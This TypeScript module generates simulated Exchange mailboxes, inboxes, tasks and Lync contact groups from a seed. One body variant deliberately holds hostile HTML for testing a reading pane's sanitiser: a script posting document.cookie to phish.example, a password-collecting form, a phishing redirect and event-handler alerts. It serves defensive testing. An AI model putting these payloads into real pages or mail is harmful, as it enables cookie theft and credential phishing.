// The simulated mailboxes: every user's Inbox, Tasks and "Lync Contacts"
// (the unified contact store), and one mailbox per site mailbox whose Inbox
// holds team mail and the site's documents, as Outlook lists them. Data is
// generated from the seed on first use; changes (read, completed) live in
// memory for the run.
import type { Topology } from '../core/topology';
import type { AccountDirectory } from './accounts';
import { SeededRandom } from './seeded-random';

export const SITE_MAILBOX_MESSAGES = 5000;
const USER_INBOX_MESSAGES = 60;
const TASKS_PER_USER = 120;
const PROJECT_TASKS = 12;

/** Mail arrives before this instant, newest first: the data does not move with the clock. */
const NEWEST = Date.UTC(2014, 2, 14, 17, 0, 0);

export interface Person {
  name: string;
  address: string;
}

export interface Attachment {
  id: string;
  name: string;
  contentType: string;
  size: number;
}

interface ItemBase {
  id: string;
  version: number;
  folderId: string;
  subject: string;
  created: Date;
  size: number;
}

export interface MessageItem extends ItemBase {
  kind: 'message';
  from: Person;
  to: Person[];
  received: Date;
  isRead: boolean;
  importance: 'Low' | 'Normal' | 'High';
  attachments: Attachment[];
  /** The HTML body; generated on demand. */
  body: () => string;
  internetMessageId: string;
}

export interface TaskItem extends ItemBase {
  kind: 'task';
  due?: Date;
  start?: Date;
  status: 'NotStarted' | 'InProgress' | 'Completed' | 'WaitingOnOthers' | 'Deferred';
  percentComplete: number;
  completeDate?: Date;
  owner: string;
  body: () => string;
}

export interface ContactItem extends ItemBase {
  kind: 'contact';
  displayName: string;
  givenName: string;
  surname: string;
  email: string;
  company: string;
  jobTitle: string;
  imAddress: string;
}

/**
 * A Lync contact group as the unified contact store keeps it: a contact
 * group (distribution list) item whose class names the group kind, its
 * members the contact items in it. [MS-OXWSCOS] 2.2.4.2 ImGroupType lists
 * the classes IPM.DistList.MOC.Favorites, .OtherContacts, .UserGroup,
 * .Tagged and .DG (https://docs.microsoft.com/en-us/openspecs/exchange_server_protocols/ms-oxwscos/9191ee8d-7f55-4c85-bfbb-3950bb41a806).
 */
export interface GroupItem extends ItemBase {
  kind: 'group';
  displayName: string;
  groupClass: 'IPM.DistList.MOC.Favorites' | 'IPM.DistList.MOC.OtherContacts' | 'IPM.DistList.MOC.UserGroup';
  /** The contact items in the group, by id. */
  members: string[];
}

export type StoreItem = MessageItem | TaskItem | ContactItem | GroupItem;

export interface Folder {
  id: string;
  mailbox: Mailbox;
  distinguished?: 'inbox' | 'tasks' | 'contacts' | 'msgfolderroot';
  displayName: string;
  folderClass: string;
  parentId?: string;
  items: () => StoreItem[];
  children: () => Folder[];
}

export interface Mailbox {
  address: string;
  displayName: string;
  kind: 'user' | 'site';
  /** Users allowed to open a site mailbox (owners and members). */
  access: string[];
  /** For site mailboxes: the SharePoint site. */
  site?: string;
  folders: Folder[];
}

const SUBJECTS = ['Status update', 'Design review', 'Budget question', 'Release plan', 'Customer escalation', 'Meeting notes', 'Action items', 'Schedule change', 'Risk register', 'Vendor quote', 'Test results', 'Weekly report'];
const TOPICS = ['Phase 2', 'the pilot', 'Q2', 'the migration', 'site rollout', 'the launch', 'Contoso West', 'the audit'];
const DOCUMENTS = ['Project Charter.docx', 'Budget FY14.xlsx', 'Architecture.vsdx', 'Kickoff.pptx', 'Requirements.docx', 'Risk Log.xlsx', 'Test Plan.docx', 'Timeline.mpp', 'Status Report.docx', 'Contract Draft.pdf', 'Meeting Notes.one', 'Org Chart.pptx'];
const TASK_VERBS = ['Review', 'Update', 'Approve', 'Draft', 'Send', 'Prepare', 'Test', 'File'];
const TASK_OBJECTS = ['expense report', 'project plan', 'site design', 'release notes', 'training deck', 'backup runbook', 'budget forecast', 'SLA draft', 'customer survey', 'patch schedule'];
const EXTERNAL = [
  { given: 'Dana', surname: 'Whitfield', company: 'Fabrikam', job: 'Account Manager', domain: 'fabrikam.com' },
  { given: 'Ravi', surname: 'Menon', company: 'Northwind Traders', job: 'Buyer', domain: 'northwindtraders.com' },
  { given: 'Lena', surname: 'Sorensen', company: 'Tailspin Toys', job: 'Project Lead', domain: 'tailspintoys.com' },
  { given: 'Marco', surname: 'Ricci', company: 'Litware', job: 'Consultant', domain: 'litwareinc.com' },
  { given: 'Aiko', surname: 'Tanaka', company: 'Adventure Works', job: 'Engineer', domain: 'adventure-works.com' },
  { given: 'Sam', surname: 'Okoro', company: 'Woodgrove Bank', job: 'Auditor', domain: 'woodgrovebank.com' },
];

export class MailboxStore {
  private readonly mailboxes = new Map<string, Mailbox>();
  private readonly folders = new Map<string, Folder>();
  private readonly itemCache = new Map<string, StoreItem[]>();
  private readonly itemsById = new Map<string, StoreItem>();

  constructor(
    private readonly topology: Topology,
    private readonly accounts: AccountDirectory,
    private readonly seed: number,
    private readonly siteMessages: number = SITE_MAILBOX_MESSAGES,
  ) {
    for (const a of accounts.accounts) this.addMailbox(a.signInName, a.displayName, 'user', [a.signInName]);
    for (const sm of topology.siteMailboxes) {
      const access = [...sm.owners, ...sm.members]
        .map((n) => topology.users.find((u) => u.name === n)?.address)
        .filter((x): x is string => !!x);
      const siteName = decodeURIComponent(new URL(sm.site).pathname.split('/').filter(Boolean).pop() ?? sm.name);
      this.addMailbox(sm.address, siteName, 'site', access, sm.site);
    }
  }

  mailbox(address: string): Mailbox | undefined {
    return this.mailboxes.get(address.toLowerCase());
  }

  folder(id: string): Folder | undefined {
    return this.folders.get(id);
  }

  distinguishedFolder(mailbox: Mailbox, id: string): Folder | undefined {
    return mailbox.folders.find((f) => f.distinguished === id);
  }

  item(id: string): StoreItem | undefined {
    if (!this.itemsById.has(id)) {
      // Generating a folder registers its items; an id names its folder.
      const folderId = parseItemId(id)?.folderId;
      const folder = folderId ? this.folders.get(folderId) : undefined;
      folder?.items();
    }
    return this.itemsById.get(id);
  }

  /** May `user` (a sign-in address) open `mailbox`? */
  canOpen(user: string, mailbox: Mailbox): boolean {
    const u = user.toLowerCase();
    return mailbox.access.some((a) => a.toLowerCase() === u);
  }

  private addMailbox(address: string, displayName: string, kind: Mailbox['kind'], access: string[], site?: string): void {
    const mailbox: Mailbox = { address, displayName, kind, access, site, folders: [] };
    this.mailboxes.set(address.toLowerCase(), mailbox);
    const root = this.addFolder(mailbox, 'msgfolderroot', 'Top of Information Store', 'IPF.Note', undefined, () => []);
    this.addFolder(mailbox, 'inbox', 'Inbox', 'IPF.Note', root.id, () =>
      kind === 'site' ? this.siteInbox(mailbox, this.folderIdOf(mailbox, 'inbox')) : this.userInbox(mailbox, this.folderIdOf(mailbox, 'inbox')),
    );
    if (kind === 'user') {
      const tasks = this.addFolder(mailbox, 'tasks', 'Tasks', 'IPF.Task', root.id, () => this.tasks(mailbox, this.folderIdOf(mailbox, 'tasks'), 'tasks', TASKS_PER_USER));
      // Project Server's Exchange integration "sync[s] the tasks into folders that are named by the project name" (docs/office-panels.md):
      // one project per site the user works on.
      for (const project of this.projectsOf(address)) {
        const key = `project:${project}`;
        this.addFolder(mailbox, undefined, project, 'IPF.Task', tasks.id, () => this.tasks(mailbox, this.folderIdOf(mailbox, key), key, PROJECT_TASKS), key);
      }
      const contacts = this.addFolder(mailbox, 'contacts', 'Contacts', 'IPF.Contact', root.id, () => []);
      this.addFolder(mailbox, undefined, 'Lync Contacts', 'IPF.Contact.MOC.QuickContacts', contacts.id, () =>
        this.lyncContacts(mailbox, this.folderIdOf(mailbox, 'lync')),
      );
    }
  }

  private folderIdOf(mailbox: Mailbox, key: string): string {
    return `AAMkF${Buffer.from(`${mailbox.address.toLowerCase()}\0${key}`).toString('base64')}`;
  }

  private addFolder(
    mailbox: Mailbox,
    distinguished: Folder['distinguished'],
    displayName: string,
    folderClass: string,
    parentId: string | undefined,
    generate: () => StoreItem[],
    key: string = distinguished ?? 'lync',
  ): Folder {
    const id = this.folderIdOf(mailbox, key);
    const folder: Folder = {
      id,
      mailbox,
      distinguished,
      displayName,
      folderClass,
      parentId,
      items: () => {
        let items = this.itemCache.get(id);
        if (!items) {
          items = generate();
          this.itemCache.set(id, items);
          for (const it of items) this.itemsById.set(it.id, it);
        }
        return items;
      },
      children: () => mailbox.folders.filter((f) => f.parentId === id),
    };
    mailbox.folders.push(folder);
    this.folders.set(id, folder);
    return folder;
  }

  private people(): Person[] {
    return this.accounts.accounts.map((a) => ({ name: a.displayName, address: a.signInName }));
  }

  private externalPeople(): Person[] {
    return EXTERNAL.map((e) => ({ name: `${e.given} ${e.surname}`, address: `${e.given.toLowerCase()}@${e.domain}` }));
  }

  private siteInbox(mailbox: Mailbox, folderId: string): MessageItem[] {
    const random = new SeededRandom(this.seed, `site:${mailbox.address.toLowerCase()}`);
    const senders = [...this.people(), ...this.externalPeople()];
    const me: Person = { name: mailbox.displayName, address: mailbox.address };
    const items: MessageItem[] = [];
    let t = NEWEST;
    for (let i = 0; i < this.siteMessages; i++) {
      t -= random.int(3, 180) * 60_000;
      // Every eighth entry is a document of the site's library, listed as Outlook shows it.
      if (i % 8 === 5) {
        const doc = DOCUMENTS[random.int(0, DOCUMENTS.length - 1)];
        const editor = random.pick(senders);
        const href = `${mailbox.site}/Shared%20Documents/${encodeURIComponent(doc)}`;
        items.push(
          this.message(folderId, i, {
            subject: doc,
            from: editor,
            to: [me],
            received: new Date(t),
            isRead: random.chance(0.7),
            importance: 'Normal',
            attachments: [],
            body: () =>
              `<html><body><p>${esc(editor.name)} updated <a href="${esc(href)}">${esc(doc)}</a> in the ${esc(mailbox.displayName)} document library.</p></body></html>`,
          }),
        );
        continue;
      }
      items.push(this.mail(folderId, i, random, senders, [me], new Date(t)));
    }
    return items;
  }

  private userInbox(mailbox: Mailbox, folderId: string): MessageItem[] {
    const random = new SeededRandom(this.seed, `inbox:${mailbox.address.toLowerCase()}`);
    const me = { name: mailbox.displayName, address: mailbox.address };
    const senders = [...this.people().filter((p) => p.address !== mailbox.address), ...this.externalPeople()];
    let t = NEWEST;
    return Array.from({ length: USER_INBOX_MESSAGES }, (_, i) => {
      t -= random.int(10, 600) * 60_000;
      return this.mail(folderId, i, random, senders, [me], new Date(t));
    });
  }

  private mail(folderId: string, i: number, random: SeededRandom, senders: Person[], to: Person[], received: Date): MessageItem {
    const from = random.pick(senders);
    const subject = `${random.pick(SUBJECTS)}: ${random.pick(TOPICS)}`;
    // A fixed rhythm guarantees every kind of body turns up within any page of ten.
    const variant = i % 10;
    const id = itemId(folderId, i);
    const attachments: Attachment[] =
      variant === 1 || variant === 6
        ? Array.from({ length: 1 + (i % 3) }, (_, k) => {
            const name = DOCUMENTS[(i + k) % DOCUMENTS.length];
            return { id: `${id}-A${k}`, name, contentType: contentTypeOf(name), size: 20_000 + ((i * 7919 + k * 104_729) % 900_000) };
          })
        : [];
    const body = () => messageBody(variant, from, subject, i);
    return this.message(folderId, i, {
      subject,
      from,
      to,
      received,
      isRead: random.chance(0.6),
      importance: variant === 4 ? 'High' : 'Normal',
      attachments,
      body,
    });
  }

  private message(
    folderId: string,
    i: number,
    m: Pick<MessageItem, 'subject' | 'from' | 'to' | 'received' | 'isRead' | 'importance' | 'attachments' | 'body'>,
  ): MessageItem {
    const id = itemId(folderId, i);
    return {
      kind: 'message',
      id,
      version: 1,
      folderId,
      created: m.received,
      size: 4_000 + (i % 37) * 311 + m.attachments.reduce((s, a) => s + a.size, 0),
      internetMessageId: `<${Buffer.from(id).toString('hex').slice(-24)}@${m.from.address.split('@')[1]}>`,
      ...m,
    };
  }

  /** The projects of the site mailboxes `address` owns or belongs to, named after their sites. */
  private projectsOf(address: string): string[] {
    const user = this.topology.users.find((u) => u.address.toLowerCase() === address.toLowerCase());
    if (!user) return [];
    return this.topology.siteMailboxes
      .filter((sm) => sm.owners.includes(user.name) || sm.members.includes(user.name))
      .map((sm) => `Project ${decodeURIComponent(new URL(sm.site).pathname.split('/').filter(Boolean).pop() ?? sm.name)}`);
  }

  private tasks(mailbox: Mailbox, folderId: string, key: string, count: number): TaskItem[] {
    const random = new SeededRandom(this.seed, `${key}:${mailbox.address.toLowerCase()}`);
    const statuses: TaskItem['status'][] = ['NotStarted', 'InProgress', 'InProgress', 'Completed', 'WaitingOnOthers', 'Deferred'];
    return Array.from({ length: count }, (_, i) => {
      const status = random.pick(statuses);
      const due = new Date(NEWEST + (random.int(-20, 60) * 86400_000));
      const percentComplete = status === 'Completed' ? 100 : status === 'NotStarted' ? 0 : random.pick([25, 50, 75]);
      const subject = `${random.pick(TASK_VERBS)} the ${random.pick(TASK_OBJECTS)}`;
      return {
        kind: 'task' as const,
        id: itemId(folderId, i),
        version: 1,
        folderId,
        subject,
        created: new Date(due.getTime() - 14 * 86400_000),
        size: 2_000 + i * 13,
        due,
        start: new Date(due.getTime() - 7 * 86400_000),
        status,
        percentComplete,
        completeDate: status === 'Completed' ? new Date(due.getTime() - 86400_000) : undefined,
        owner: mailbox.displayName,
        body: () => `<html><body><p>${esc(subject)}.</p></body></html>`,
      };
    });
  }

  private lyncContacts(mailbox: Mailbox, folderId: string): Array<ContactItem | GroupItem> {
    const colleagues = this.accounts.accounts
      .filter((a) => a.signInName.toLowerCase() !== mailbox.address.toLowerCase())
      .map((a) => {
        const [given, ...rest] = a.displayName.split(' ');
        return { given, surname: rest.join(' '), email: a.signInName, company: companyOf(this.accounts.dnsDomain), job: 'Colleague' };
      });
    const external = EXTERNAL.map((e) => ({
      given: e.given,
      surname: e.surname,
      email: `${e.given.toLowerCase()}@${e.domain}`,
      company: e.company,
      job: e.job,
    }));
    const contacts: ContactItem[] = [...colleagues, ...external].map((c, i) => ({
      kind: 'contact' as const,
      id: itemId(folderId, i),
      version: 1,
      folderId,
      subject: `${c.given} ${c.surname}`,
      created: new Date(NEWEST - (i + 1) * 86400_000),
      size: 1_500,
      displayName: `${c.given} ${c.surname}`,
      givenName: c.given,
      surname: c.surname,
      email: c.email,
      company: c.company,
      jobTitle: c.job,
      imAddress: `sip:${c.email}`,
    }));
    return [...contacts, ...this.lyncGroups(mailbox, folderId, contacts)];
  }

  /**
   * Lync's groups over those contacts: Favorites (the first two
   * colleagues), one group per site mailbox the user belongs to (its other
   * members), Partners (the outside contacts) and Other Contacts, which
   * holds every contact no other group has, as Lync keeps it.
   */
  private lyncGroups(mailbox: Mailbox, folderId: string, contacts: ContactItem[]): GroupItem[] {
    const me = mailbox.address.toLowerCase();
    const byAddress = new Map(contacts.map((c) => [c.email.toLowerCase(), c.id]));
    const colleagues = contacts.filter((c) => this.accounts.accounts.some((a) => a.signInName.toLowerCase() === c.email.toLowerCase()));
    const groups: Array<Pick<GroupItem, 'displayName' | 'groupClass' | 'members'>> = [
      { displayName: 'Favorites', groupClass: 'IPM.DistList.MOC.Favorites', members: colleagues.slice(0, 2).map((c) => c.id) },
    ];
    for (const sm of this.topology.siteMailboxes) {
      const people = [...sm.owners, ...sm.members].map((n) => this.topology.users.find((u) => u.name === n)?.address?.toLowerCase());
      if (!people.includes(me)) continue;
      const members = people.filter((a): a is string => !!a && a !== me).map((a) => byAddress.get(a)).filter((id): id is string => !!id);
      if (members.length) groups.push({ displayName: `Team ${sm.name}`, groupClass: 'IPM.DistList.MOC.UserGroup', members });
    }
    groups.push({ displayName: 'Partners', groupClass: 'IPM.DistList.MOC.UserGroup', members: contacts.filter((c) => !colleagues.includes(c)).map((c) => c.id) });
    const grouped = new Set(groups.slice(1).flatMap((g) => g.members));
    groups.push({ displayName: 'Other Contacts', groupClass: 'IPM.DistList.MOC.OtherContacts', members: contacts.filter((c) => !grouped.has(c.id)).map((c) => c.id) });
    return groups.map((g, k) => ({
      kind: 'group' as const,
      id: itemId(folderId, contacts.length + k),
      version: 1,
      folderId,
      subject: g.displayName,
      created: new Date(NEWEST - (contacts.length + k + 1) * 86400_000),
      size: 800 + g.members.length * 120,
      ...g,
    }));
  }
}

function itemId(folderId: string, index: number): string {
  return `AAMkI${Buffer.from(`${folderId}\0${index}`).toString('base64')}`;
}

function parseItemId(id: string): { folderId: string; index: number } | undefined {
  if (!id.startsWith('AAMkI')) return undefined;
  const text = Buffer.from(id.slice(5), 'base64').toString('utf8');
  const nul = text.lastIndexOf('\0');
  if (nul < 0) return undefined;
  return { folderId: text.slice(0, nul), index: Number(text.slice(nul + 1)) };
}

function contentTypeOf(name: string): string {
  const ext = name.split('.').pop();
  const types: Record<string, string> = {
    docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    pptx: 'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    pdf: 'application/pdf',
  };
  return types[ext ?? ''] ?? 'application/octet-stream';
}

function companyOf(dnsDomain: string): string {
  const label = dnsDomain.split('.')[0];
  return label.charAt(0).toUpperCase() + label.slice(1);
}

export function esc(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/**
 * Bodies as Exchange stores them: plain HTML, remote images, and hostile
 * markup (scripts, event handlers, javascript: links, frames, forms, CSS
 * that calls out) that a reading pane must neutralise.
 */
function messageBody(variant: number, from: Person, subject: string, i: number): string {
  const sign = `<p>--<br>${esc(from.name)}</p>`;
  const intro = `<p>Hi all,</p><p>About <b>${esc(subject)}</b>: please see below.</p>`;
  switch (variant) {
    case 3:
    case 8:
      return `<html><head><style>p{font-family:Calibri}</style></head><body>${intro}<p><img src="https://images.fabrikam.example/banner-${i}.png" width="600" height="120" alt="banner"></p><p><img src="https://tracking.example.net/open.gif?m=${i}" width="1" height="1"></p>${sign}</body></html>`;
    case 7:
      return `<html><head><meta http-equiv="refresh" content="0;url=https://phish.example/login"><style>body{background:url('https://tracking.example.net/bg.gif?m=${i}')}</style><script>document.location='https://phish.example/steal?c='+document.cookie</script></head><body onload="alert('onload')">${intro}<p><img src="x" onerror="alert('onerror')"><a href="javascript:alert('link')">Open the report</a></p><iframe src="https://phish.example/frame"></iframe><form action="https://phish.example/collect" method="post"><input name="password" type="password"><button>Verify account</button></form><svg><script>alert('svg')</script></svg><p style="behavior:url(x.htc);width:expression(alert('css'))">Styled</p>${sign}</body></html>`;
    case 4:
      return `<html><body>${intro}<table border="1" cellpadding="4"><tr><th>Item</th><th>Owner</th><th>Due</th></tr><tr><td>Scope</td><td>${esc(from.name)}</td><td>Friday</td></tr><tr><td>Budget</td><td>Finance</td><td>Monday</td></tr></table>${sign}</body></html>`;
    default:
      return `<html><body>${intro}<p>Thanks &amp; regards,</p>${sign}</body></html>`;
  }
}
